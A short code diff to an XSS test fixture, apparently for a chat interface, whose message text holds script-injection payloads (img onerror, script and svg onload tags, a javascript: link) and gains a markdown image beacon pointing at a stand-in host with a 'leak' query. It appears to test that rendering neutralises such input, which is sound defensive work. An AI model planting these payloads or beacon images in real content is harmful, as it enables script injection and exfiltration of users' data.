@@ -22,7 +22,7 @@ export const XSS_HISTORY = [
     text:
       'Raw: <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> ' +
       '<svg onload="window.__pwned=3"></svg>\n\n[click me](javascript:window.__pwned=4) ' +
-      '[fine](https://huggingface.co)',
+      '[fine](https://huggingface.co) ![beacon](https://beacon.invalid/panel.png?d=leak)',
     tool_calls: []
   }),
   ev('tool_call', {
